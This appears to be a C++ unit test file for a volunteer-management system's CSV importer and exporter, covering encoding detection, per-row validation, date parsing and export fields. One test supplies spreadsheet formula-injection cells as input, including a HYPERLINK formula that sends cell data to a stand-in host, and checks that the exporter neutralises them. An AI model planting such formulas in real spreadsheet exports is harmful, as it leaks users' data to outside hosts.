// CSV in and out: RFC 4180 quoting by libcsv, UTF-8 and GB18030 detected,
// imports that check every row before writing any, exports for spreadsheets.

#include <iconv.h>

#include <algorithm>
#include <boost/test/unit_test.hpp>

#include "adapters/cli/demo_org.h"
#include "adapters/csv/csv_text.h"
#include "adapters/csv/exporter.h"
#include "adapters/csv/importer.h"
#include "engine/clock.h"
#include "engine/command_service.h"
#include "engine/memory_log.h"
#include "tests/engine/opened_state.h"

namespace homeward::csv {
namespace {

std::string Gb18030(const std::string& utf8) {
  iconv_t cd = iconv_open("GB18030", "UTF-8");
  std::string out(utf8.size() * 2 + 8, '\0');
  char* in = const_cast<char*>(utf8.data());
  std::size_t in_left = utf8.size(), out_left = out.size();
  char* dst = out.data();
  iconv(cd, &in, &in_left, &dst, &out_left);
  iconv_close(cd);
  out.resize(out.size() - out_left);
  return out;
}

// The demo organization in memory.
struct DemoLog {
  InMemoryLog log;
  DemoLog() {
    BOOST_REQUIRE(cli::RecordDemoOrganization(log, SystemClockMicros(), [](const AppendResult&) {
                    return Status::Ok();
                  }).ok());
  }
  ImportOptions Children() const {
    ImportOptions o;
    o.kind = ImportKind::kChildren;
    o.org = "shiyan";
    o.mapping = "学籍号=child_id";
    o.defaults.unit_id = "maling";
    return o;
  }
};

const std::string kKids =
    "学籍号,姓名,性别,出生日期,监护人,监护人电话\r\n"
    "2031001,李小红,女,2016/05/01,李奶奶,13912345678\r\n"
    "2031002,王小刚,男,2015-13-01,王爷爷,\r\n"
    "2031003,\"张,小丽\",女,2017-02-02,\"张妈妈 \"\"代\"\"\",\r\n"
    "2031001,重复,女,2016-05-01,,\r\n";

BOOST_AUTO_TEST_SUITE(csv_test)

BOOST_AUTO_TEST_CASE(quoting_follows_rfc_4180_and_rows_know_their_lines) {
  const Result<Table> t = ReadCsv(
      "\xEF\xBB\xBF"
      "a,b\r\n\"x, y\",\"say \"\"hi\"\"\"\r\n\"two\nlines\",z\n\nlast,row");
  BOOST_TEST_REQUIRE(t.ok(), t.status().ToString());
  BOOST_TEST(t->encoding == "UTF-8");
  BOOST_TEST(t->header == (std::vector<std::string>{"a", "b"}));
  BOOST_TEST_REQUIRE(t->rows.size() == 3u);
  BOOST_TEST(t->rows[0].fields == (std::vector<std::string>{"x, y", "say \"hi\""}));
  BOOST_TEST(t->rows[1].fields[0] == "two\nlines");
  BOOST_TEST(t->rows[1].line == 3u);
  BOOST_TEST(t->rows[2].line == 6u);  // after the two-line record and a blank line
  BOOST_TEST(!ReadCsv("a,b\n\"never closed,1\n").ok());
  BOOST_TEST(!ReadCsv("").ok());
}

BOOST_AUTO_TEST_CASE(what_is_written_reads_back_the_same) {
  const std::vector<std::vector<std::string>> rows = {
      {"姓名", "备注"}, {"小花", "说 \"你好\", 再见"}, {"", "多\n行"}};
  const std::string text = WriteCsv(rows);
  BOOST_TEST(text.starts_with("\xEF\xBB\xBF"));  // so spreadsheets read UTF-8
  const Result<Table> back = ReadCsv(text);
  BOOST_TEST_REQUIRE(back.ok());
  BOOST_TEST(back->header == rows[0]);
  BOOST_TEST(back->rows.at(0).fields == rows[1]);
  BOOST_TEST(back->rows.at(1).fields == rows[2]);
}

BOOST_AUTO_TEST_CASE(gb18030_is_detected_and_garbage_is_refused) {
  const Result<Table> t = ReadCsv(Gb18030("姓名,学校\n小花,马岭小学\n"));
  BOOST_TEST_REQUIRE(t.ok());
  BOOST_TEST(t->encoding == "GB18030");
  BOOST_TEST(t->rows.at(0).fields.at(1) == "马岭小学");
  const Result<Table> bad = ReadCsv(std::string("a\n\x81\x20\xFF\n", 6));
  BOOST_TEST(!bad.ok());
  // An overlong UTF-8 form is not UTF-8; as GB18030 it is not text either.
  BOOST_TEST(DecodeText("\xE0\x80\xAF").ok() == false);
}

BOOST_AUTO_TEST_CASE(a_file_with_bad_rows_writes_nothing_and_names_each_line) {
  DemoLog demo;
  const std::uint64_t head = demo.log.Head();
  Result<ImportReport> report = ImportCsv(demo.log, Gb18030(kKids), demo.Children());
  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
  BOOST_TEST(report->encoding == "GB18030");
  BOOST_TEST(report->rows == 4u);
  BOOST_TEST(report->imported == 0u);
  BOOST_TEST(demo.log.Head() == head);
  BOOST_TEST_REQUIRE(report->problems.size() == 2u);
  BOOST_TEST(report->problems[0].line == 3u);
  BOOST_TEST(report->problems[0].reason.find("date_of_birth") != std::string::npos);
  // The reason names the column, not the cell: a date of birth is personal data.
  BOOST_TEST(report->problems[0].reason.find("2015-13-01") == std::string::npos);
  BOOST_TEST(report->problems[1].line == 5u);
  BOOST_TEST(report->problems[1].reason.find("line 2") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(skip_bad_writes_the_good_rows_and_the_domain_checks_each) {
  DemoLog demo;
  ImportOptions options = demo.Children();
  options.skip_bad = true;
  Result<ImportReport> report = ImportCsv(demo.log, kKids, options);
  BOOST_TEST_REQUIRE(report.ok());
  BOOST_TEST(report->imported == 2u);
  const ChildState child = testing::OpenedChild(demo.log, "shiyan", "2031003");
  BOOST_TEST(child.card.name == "张,小丽");
  BOOST_TEST(child.card.guardian.name == "张妈妈 \"代\"");
  BOOST_TEST(child.unit_id == "maling");
  // Again: each row is refused by the domain, by line, and nothing is written.
  const std::uint64_t head = demo.log.Head();
  options.skip_bad = false;
  Result<ImportReport> again = ImportCsv(demo.log, kKids, options);
  BOOST_TEST_REQUIRE(again.ok());
  BOOST_TEST(again->problems.size() == 4u);
  BOOST_TEST(demo.log.Head() == head);
  // A unit that does not exist is the domain's refusal too.
  options.defaults.unit_id = "nowhere";
  Result<ImportReport> elsewhere =
      ImportCsv(demo.log, "学籍号,姓名,出生日期\n9,小明,2016-01-01\n", options);
  BOOST_TEST_REQUIRE(elsewhere.ok());
  BOOST_TEST(elsewhere->problems.at(0).reason.find("nowhere") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(a_row_with_more_or_fewer_fields_than_the_header_is_bad) {
  DemoLog demo;
  const std::uint64_t head = demo.log.Head();
  // Line 2: an unquoted comma in the address shifts the phone into the notes.
  // Line 3: the last column is missing. Line 4 is whole.
  const std::string file =
      "学籍号,姓名,出生日期,现住址,监护人电话,班主任意见\n"
      "2031011,王小明,2016-04-12,十堰市,郧阳区,13800000000,好\n"
      "2031012,李小花,2016-04-13,十堰市,13900000000\n"
      "2031013,张小亮,2016-04-14,\"十堰市,郧阳区\",13700000000,好\n";
  Result<ImportReport> report = ImportCsv(demo.log, file, demo.Children());
  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
  BOOST_TEST(demo.log.Head() == head);
  BOOST_TEST_REQUIRE(report->problems.size() == 2u);
  BOOST_TEST(report->problems[0].line == 2u);
  BOOST_TEST(report->problems[0].reason.find("7 fields where the header has 6") !=
             std::string::npos);
  BOOST_TEST(report->problems[1].line == 3u);
  BOOST_TEST(report->problems[1].reason.find("5 fields where the header has 6") !=
             std::string::npos);
}

BOOST_AUTO_TEST_CASE(dates_are_read_as_spreadsheets_write_them) {
  DemoLog demo;
  ImportOptions options = demo.Children();
  const std::string file =
      "学籍号,姓名,出生日期\n"
      "2031021,甲,2016/4/2\n"
      "2031022,乙,2016.04.12\n"
      "2031023,丙,2016年4月12日\n"
      "2031024,丁,2016-4-12\n"
      "2031025,戊,2016/4/31\n"
      "2031026,己,16/4/12\n";
  options.skip_bad = true;
  Result<ImportReport> report = ImportCsv(demo.log, file, options);
  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
  BOOST_TEST(report->imported == 4u);
  BOOST_TEST_REQUIRE(report->problems.size() == 2u);
  BOOST_TEST(report->problems[0].line == 6u);  // April has 30 days
  BOOST_TEST(report->problems[1].line == 7u);  // a two-digit year is not a date of birth
  CommandService service(demo.log);
  const auto born = [&](const std::string& id) {
    return FormatDate(service.LoadChild("shiyan", id).value().state().card.date_of_birth);
  };
  BOOST_TEST(born("2031021") == "2016-04-02");
  BOOST_TEST(born("2031022") == "2016-04-12");
  BOOST_TEST(born("2031023") == "2016-04-12");
  BOOST_TEST(born("2031024") == "2016-04-12");
}

BOOST_AUTO_TEST_CASE(a_header_without_an_id_or_a_bad_mapping_is_refused) {
  DemoLog demo;
  ImportOptions options = demo.Children();
  options.mapping.clear();
  BOOST_TEST(!ImportCsv(demo.log, "学籍号,姓名\n1,x\n", options).ok());
  options.mapping = "学籍号=shoe_size";
  BOOST_TEST(!ImportCsv(demo.log, "学籍号,姓名\n1,x\n", options).ok());
}

// The cell under `heading` in row `row` of an export.
std::string At(const std::vector<std::vector<std::string>>& rows, std::size_t row,
               const std::string& heading) {
  const auto& header = rows.at(0);
  const auto column = std::find(header.begin(), header.end(), heading);
  BOOST_TEST_REQUIRE((column != header.end()), "no column " + heading);
  return rows.at(row).at(static_cast<std::size_t>(column - header.begin()));
}

BOOST_AUTO_TEST_CASE(service_records_carry_the_national_record_fields) {
  DemoLog demo;
  // Hours are confirmed after the build, which the demo plans two weeks ahead.
  CommandService service(demo.log, [] { return SystemClockMicros() + 30LL * 86400 * 1000000; });
  const CommandContext ctx{"shiyan", "test", "t", ""};
  VolunteerDetails wang = testing::OpenedVolunteer(demo.log, "shiyan", "v-wang").details;
  wang.id_number = "420303198203081235";
  wang.contact = "13800000001";
  wang.skills = {"心理疏导", "急救"};
  BOOST_TEST_REQUIRE(
      service.Execute(ctx, PeopleCommand{CorrectVolunteerDetails{"v-wang", wang, "补全"}}).ok());
  ConfirmHours confirm;
  confirm.activity_id = "library-maling";
  confirm.volunteer_id = "v-wang";
  confirm.confirmed_by = "校长郑老师";
  confirm.minutes = 150;
  const auto confirmed = service.Execute(ctx, ActivityCommand{confirm});
  BOOST_TEST_REQUIRE(confirmed.ok(), confirmed.status().ToString());
  const auto rows =
      ExportRows(demo.log, ExportKind::kServiceRecords, ExportQuery{"shiyan", "", "", 0});
  BOOST_TEST_REQUIRE(rows.ok());
  BOOST_TEST_REQUIRE(rows->size() == 2u);
  // Art. 5: who the volunteer is.
  BOOST_TEST(At(*rows, 1, "姓名") == "王芳");
  BOOST_TEST(At(*rows, 1, "性别") == "女");
  BOOST_TEST(At(*rows, 1, "出生日期") == "1982-03-08");
  BOOST_TEST(At(*rows, 1, "证件类型") == "居民身份证");
  // A spreadsheet would read 18 digits as a number and lose the last three.
  BOOST_TEST(At(*rows, 1, "证件号码") == "\t420303198203081235");
  BOOST_TEST(At(*rows, 1, "居住区域") == "十堰市");
  BOOST_TEST(At(*rows, 1, "联系方式") == "13800000001");
  BOOST_TEST(At(*rows, 1, "技能") == "心理疏导、急救");
  BOOST_TEST(At(*rows, 1, "服务类别") == "关爱留守儿童");
  // Art. 7: the service.
  BOOST_TEST(At(*rows, 1, "志愿服务组织") == "马岭小学");
  BOOST_TEST(At(*rows, 1, "服务项目") == "留守儿童之家 图书屋建设");
  BOOST_TEST(At(*rows, 1, "服务内容") == "图书屋建设");
  BOOST_TEST(At(*rows, 1, "服务时长(小时)") == "2.50");
  BOOST_TEST(At(*rows, 1, "负责人") == "校长郑老师");
  BOOST_TEST(At(*rows, 1, "记录人") == "校长郑老师");

  // Once her personal data is erased, no record can name her.
  BOOST_TEST_REQUIRE(
      service.Execute(ctx, PeopleCommand{EraseVolunteerData{"v-wang", "本人申请"}}).ok());
  const auto after =
      ExportRows(demo.log, ExportKind::kServiceRecords, ExportQuery{"shiyan", "", "", 0});
  BOOST_TEST_REQUIRE(after.ok());
  BOOST_TEST(after->size() == 1u);
}

BOOST_AUTO_TEST_CASE(a_cell_a_spreadsheet_would_run_is_written_as_text) {
  const std::string csv = WriteCsv({{"title", "place"},
                                    {"=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "-1层活动室"},
                                    {"@SUM(A1)", "+86 公园"},
                                    {"\t=1+1", "马岭小学"},
                                    {"\t420303198203081235", "3-2班"}});
  BOOST_TEST(csv.find("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"") != std::string::npos,
             csv);
  BOOST_TEST(csv.find("\"'-1层活动室\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'@SUM(A1)\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'+86 公园\"") != std::string::npos);
  BOOST_TEST(csv.find("\"'\t=1+1\"") != std::string::npos);
  // Text that starts otherwise is left as it is.
  BOOST_TEST(csv.find("\"马岭小学\"") != std::string::npos);
  BOOST_TEST(csv.find("\"\t420303198203081235\"") != std::string::npos);
  BOOST_TEST(csv.find("\"3-2班\"") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(exports_speak_chinese_and_local_time) {
  DemoLog demo;
  // A unit on Xinjiang's clock (UTC+6), and its activity at 09:00 there: 03:00 UTC.
  CommandService service(demo.log);
  const CommandContext ctx{"shiyan", "test", "t", ""};
  BOOST_TEST_REQUIRE(
      service
          .Execute(ctx, PeopleCommand{CreateUnit{"urumqi", "乌鲁木齐站", UnitKind::kAssociation,
                                                 "yunyang-fulian", "Asia/Urumqi"}})
          .ok());
  PlanActivity far;
  far.activity_id = "far";
  far.unit_id = "urumqi";
  far.kind = ActivityKind::kOther;
  far.title = "远方的活动";
  far.starts_at_us = 1811818800LL * 1000000;  // 2027-06-01T03:00:00Z
  far.ends_at_us = far.starts_at_us + 2LL * 3600 * 1000000;
  const auto planned = service.Execute(ctx, ActivityCommand{far});
  BOOST_TEST_REQUIRE(planned.ok(), planned.status().ToString());
  // The trip starts at 09:00 in Shiyan, 01:00 UTC.
  const auto roster = ExportRows(demo.log, ExportKind::kRoster, ExportQuery{"shiyan", "", "", 0});
  BOOST_TEST_REQUIRE(roster.ok(), roster.status().ToString());
  bool found = false;
  for (std::size_t r = 1; r < roster->size(); ++r) {
    if (At(*roster, r, "活动编号") != "trip-childrens-day") continue;
    found = true;
    BOOST_TEST(At(*roster, r, "开始时间").ends_with(" 09:00"), At(*roster, r, "开始时间"));
    BOOST_TEST(At(*roster, r, "结束时间").ends_with(" 17:00"));
    BOOST_TEST(At(*roster, r, "时区") == "Asia/Shanghai");
    BOOST_TEST(At(*roster, r, "类型") == "外出活动");
    BOOST_TEST(At(*roster, r, "状态") == "招募中");
  }
  BOOST_TEST(found);
  found = false;
  for (std::size_t r = 1; r < roster->size(); ++r) {
    if (At(*roster, r, "活动编号") != "far") continue;
    found = true;
    BOOST_TEST(At(*roster, r, "开始时间") == "2027-06-01 09:00");
    BOOST_TEST(At(*roster, r, "结束时间") == "2027-06-01 11:00");
    BOOST_TEST(At(*roster, r, "时区") == "Asia/Urumqi");
  }
  BOOST_TEST(found);
  // Hours as a spreadsheet reads a number, states in Chinese.
  const auto report = ExportRows(demo.log, ExportKind::kReport, ExportQuery{"shiyan", "", "", 0});
  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
  BOOST_TEST_REQUIRE(report->size() > 1u);
  for (std::size_t r = 1; r < report->size(); ++r) {
    const std::string hours = At(*report, r, "志愿服务时长(小时)");
    BOOST_TEST((hours.find('E') == std::string::npos && hours.find('.') != std::string::npos),
               hours);
    const std::string state = At(*report, r, "月报");
    BOOST_TEST((state == "未到期" || state == "按时上报" || state == "逾期" || state == "未上报"),
               state);
  }
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace homeward::csv
